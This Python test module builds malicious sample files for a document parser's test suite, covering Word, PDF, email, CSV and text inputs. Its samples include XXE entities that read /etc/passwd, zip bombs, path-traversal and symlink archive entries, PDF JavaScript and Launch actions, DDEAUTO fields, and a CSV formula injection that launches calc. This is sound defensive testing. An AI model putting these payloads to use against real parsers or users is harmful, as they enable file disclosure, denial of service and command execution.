"""Files a stranger might send to exhaust, confuse, escape or call home; all made on the spot."""

from __future__ import annotations

import io
import random
import stat
import zipfile
import zlib
from collections.abc import Callable

from tests.files import mail, pdf, pdf_of, word, word_with_parts, word_with_xml

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CANARY = "CANARY-OF-A-SECRET"
FELL = "<w:p><w:r><w:t>He fell.</w:t></w:r></w:p>"
Maker = Callable[[], bytes]


def document(body: str, before: str = "") -> str:
    """A whole document part, with something before its root."""
    return f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'


def whole(body: str, before: str = "") -> bytes:
    return word_with_xml(document(body, before), whole=True)


def with_entries(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """A Word file that says "He fell." and holds further entries."""
    out = io.BytesIO(word("He fell."))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def only_entry(name: str | zipfile.ZipInfo, content: bytes, method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def link_entry() -> bytes:
    """The document part is a symbolic link to a file of the machine."""
    info = zipfile.ZipInfo("word/document.xml")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return only_entry(info, b"/etc/hostname", zipfile.ZIP_STORED)


def wrong_checksum() -> bytes:
    content = bytearray(only_entry("word/document.xml", document(FELL).encode(), 0))
    place = content.find(b"He fell.")
    content[place] = ord("Q")
    return bytes(content)


def flagged_as_encrypted() -> bytes:
    content = bytearray(word_with_xml(FELL))
    local, central = content.rfind(b"PK\x03\x04"), content.rfind(b"PK\x01\x02")
    content[local + 6] |= 1
    content[central + 8] |= 1
    return bytes(content)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>>>>>"
)
SHOWN = b"<</Length 40>>stream\nBT /F1 9 Tf 9 9 Td (He fell.) Tj ET\nendstream"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf_that(does: bytes) -> bytes:
    """A PDF that says "He fell." and asks its reader to do something on opening."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction " + does + b">>"
    return pdf_of([catalog, PAGES, PAGE, SHOWN, FONT])


def stream(content: bytes, filters: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), filters, content)


def layered_stream() -> bytes:
    """A stream packed a hundred times over."""
    content = b"BT (a) Tj ET"
    for _ in range(100):
        content = zlib.compress(content)
    layers = b"/Filter[" + b"/FlateDecode" * 100 + b"]"
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, stream(content, layers), FONT])


def form_in_itself() -> bytes:
    """A drawing that draws itself."""
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R"
        b"/Resources<</XObject<</X 5 0 R>>>>>>"
    )
    form = stream(b"/X Do", b"/Type/XObject/Subtype/Form/Resources<</XObject<</X 5 0 R>>>>")
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", PAGES, page, stream(b"/X Do"), form])


def wide_font_map() -> bytes:
    """A font that says it has a billion letters."""
    table = stream(b"1 beginbfrange <00000000> <3fffffff> <0000> endbfrange")
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/ToUnicode 6 0 R>>"
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, SHOWN, font, table])


def tables_of_places_in_a_circle() -> bytes:
    content = pdf("He fell.")
    start = content.rfind(b"startxref\n") + len(b"startxref\n")
    place = content[start:].split(b"\n")[0]
    return content.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev " + place + b">>")


def mail_of(headers: bytes, body: bytes) -> bytes:
    return b"From: a@b.example\nTo: c@d.example\n" + headers + b"\n" + body


def many_attachments() -> bytes:
    part = b"--b\nContent-Type: application/pdf; name=a.pdf\n\nx\n"
    text = b"--b\nContent-Type: text/plain\n\nHe fell.\n"
    return mail_of(b'Content-Type: multipart/mixed; boundary="b"\n', text + part * 10_000)


def mails_in_mails() -> bytes:
    inside = mail_of(b"Content-Type: text/plain\n", CANARY.encode())
    for _ in range(60):
        inside = mail_of(b"Content-Type: message/rfc822\n", inside)
    return inside


def page_mail(page: str) -> bytes:
    return mail(page, subtype="html")


def pseudorandom(size: int) -> bytes:
    return random.Random(5).randbytes(size)  # noqa: S311 -- the same bytes in every run


REFUSED: dict[str, Maker] = {
    # Word: what the XML asks its reader to fetch or to repeat.
    "entity-of-a-file.docx": lambda: whole(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    "parameter-entity.docx": lambda: whole(
        FELL, '<!DOCTYPE w [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>'
    ),
    "entity-of-an-address.docx": lambda: whole(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
        '<!DOCTYPE w [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
    ),
    "entity-in-utf16.docx": lambda: only_entry(
        "word/document.xml",
        document("<w:p/>", '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>').encode(
            "utf-16"
        ),
        zipfile.ZIP_DEFLATED,
    ),
    "entity-in-the-notes.docx": lambda: with_entries(
        ("word/footnotes.xml", b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>')
    ),
    "bomb-in-the-margin.docx": lambda: with_entries(("word/header1.xml", b"a" * 40_000_000)),
    "bomb-in-the-notes.docx": lambda: with_entries(("word/endnotes.xml", b" " * 40_000_000)),
    "many-margins.docx": lambda: word_with_parts(FELL, **{f"header{n}": "" for n in range(101)}),
    "link.docx": link_entry,
    "checksum.docx": wrong_checksum,
    "encrypted-entry.docx": flagged_as_encrypted,
    "truncated.docx": lambda: word("He fell.")[:-400],
    "no-document.docx": lambda: only_entry("word/other.xml", b"<a/>", zipfile.ZIP_STORED),
    "picture-inside.docx": lambda: only_entry("word/document.xml", b"\x89PNG\r\n", 0),
    "other-root.docx": lambda: word_with_xml("<html><body>He fell.</body></html>", whole=True),
    "no-end.docx": lambda: word_with_xml(f'<w:document xmlns:w="{W}"><w:body>', whole=True),
    "nul-reference.docx": lambda: whole("<w:p><w:r><w:t>&#0;</w:t></w:r></w:p>"),
    "program-before.docx": lambda: b"MZ" + word("He fell."),
    "only-an-end.docx": lambda: b"PK\x05\x06" + bytes(18),
    "noise.docx": lambda: b"PK\x03\x04" + pseudorandom(100_000),
    "old-word.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "portable.docx": lambda: pdf("He fell."),
    "rich.docx": lambda: b"{\\rtf1 He fell.}",
    # PDF: what its structure makes a reader do.
    "password.pdf": lambda: pdf("He fell.", password="for somebody else"),
    "no-root.pdf": lambda: pdf_of([PAGES]),
    "cut.pdf": lambda: pdf("He fell.")[:60],
    "self-parent.pdf": lambda: pdf_of(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 9>>"]
    ),
    "deep-array.pdf": lambda: pdf_of([b"<</Type/Catalog/Pages " + b"[" * 100_000 + b">>"]),
    "itself.pdf": form_in_itself,
    "noise.pdf": lambda: b"%PDF-1.7\n" + pseudorandom(100_000),
    "word.pdf": lambda: word("He fell."),
    "layers.pdf": layered_stream,
    "wide-font.pdf": wide_font_map,
    "pictures.pdf": lambda: pdf(""),
    # Mail, tables and text.
    "only-mails.eml": mails_in_mails,
    "nothing.eml": lambda: mail_of(b"", b"   "),
    "nul.eml": lambda: mail_of(b"", b"He fell.\x00"),
    "many.eml": many_attachments,
    "picture.txt": lambda: b"GIF89a" + bytes(50),
    "photo.md": lambda: b"\xff\xd8\xff\xe0" + bytes(50),
    "program.csv": lambda: b"\x7fELF" + bytes(50),
    "archive.txt": lambda: b"Rar!\x1a\x07" + bytes(9),
    "packed.md": lambda: b"\x1f\x8b" + bytes(9),
    "drawing.txt": lambda: b"<svg onload=alert(1)>",
    "script.md": lambda: b"  <?php echo 1; ?>",
    "nul.txt": lambda: b"He fell.\x00\x00",
    "portable.txt": lambda: pdf("He fell."),
    "blank.txt": lambda: b" \n\t ",
    "long.txt": lambda: b"a" * 4_900_000,
    # Names.
    "a.docx.exe": lambda: word("He fell."),
    "macro.docm": lambda: word("He fell."),
    "noending": lambda: b"He fell.",
    "…/.docx": lambda: word("He fell."),
}
"""Refused in words, whatever they hold."""

READ: dict[str, Maker] = {
    # Word: what stands in the package and is never opened.
    "macro.docx": lambda: with_entries(("word/vbaProject.bin", CANARY.encode())),
    "object.docx": lambda: with_entries(("word/embeddings/o.bin", CANARY.encode())),
    "nested.docx": lambda: with_entries(("word/media/z.zip", zlib.compress(bytes(10_000_000)))),
    "traversal.docx": lambda: with_entries(("../../../../tmp/canary.txt", CANARY.encode())),
    "absolute.docx": lambda: with_entries(("/etc/canary", CANARY.encode())),
    "template.docx": lambda: with_entries(
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r" Target="http://127.0.0.1:9/CANARY-OF-A-SECRET"'
            b' TargetMode="External"/></Relationships>',
        )
    ),
    "field.docx": lambda: word_with_xml(
        f"<w:p><w:r><w:instrText>DDEAUTO {CANARY}</w:instrText></w:r></w:p>{FELL}"
    ),
    "remark.docx": lambda: whole(f"<!-- {CANARY} -->{FELL}"),
    "instruction.docx": lambda: whole(FELL, f'<?xml-stylesheet href="{CANARY}"?>'),
    "trailing.docx": lambda: word("He fell.") + b"MZ" + CANARY.encode(),
    "deep-tables.docx": lambda: word_with_xml(
        FELL + "<w:tbl><w:tr><w:tc>" * 60 + "</w:tc></w:tr></w:tbl>" * 60
    ),
    # PDF: what asks to be done on opening.
    "javascript.pdf": lambda: pdf_that(b"<</S/JavaScript/JS(app.alert\\(CANARY-OF-A-SECRET\\))>>"),
    "launch.pdf": lambda: pdf_that(b"<</S/Launch/F(CANARY-OF-A-SECRET)>>"),
    "address.pdf": lambda: pdf_that(b"<</S/URI/URI(http://127.0.0.1:9/CANARY-OF-A-SECRET)>>"),
    "send.pdf": lambda: pdf_that(b"<</S/SubmitForm/F(http://127.0.0.1:9/CANARY-OF-A-SECRET)>>"),
    "places-in-a-circle.pdf": tables_of_places_in_a_circle,
    "before.pdf": lambda: b"<script>CANARY-OF-A-SECRET</script>\n" + pdf("He fell."),
    # Mail and text.
    "page.eml": lambda: page_mail(
        f"<p>He fell.</p><script>{CANARY}</script><img src='http://127.0.0.1:9/x'>"
        f"<iframe srcdoc='{CANARY}'></iframe><style>{CANARY}</style>"
    ),
    "deep-page.eml": lambda: page_mail("<div>" * 20_000 + "He fell."),
    "letters.eml": lambda: mail_of(
        b"Content-Type: text/plain; charset=no-such-charset\n", b"He fell."
    ),
    "day.eml": lambda: mail_of(b"Date: Tue, 99 Zzz 999999999 25:61:00 +9999\n", b"He fell."),
    "header.eml": lambda: mail_of(b"X-A: " + b"a" * 1_000_000 + b"\n", b"He fell."),
    "names.eml": lambda: mail("He fell.", attached="../../../../etc/canary"),
    "formula.csv": lambda: b"Date,What\n1/2/24,\"=cmd|' /C calc'!A0\"\n2/2/24,He fell.\n",
    "wide-letters.txt": lambda: "He fell.".encode("utf-16"),
    "other-way.txt": "He \u202efell.\u202c He fell.".encode,
}
"""Read, with nothing of what they hide, fetch or ask for."""
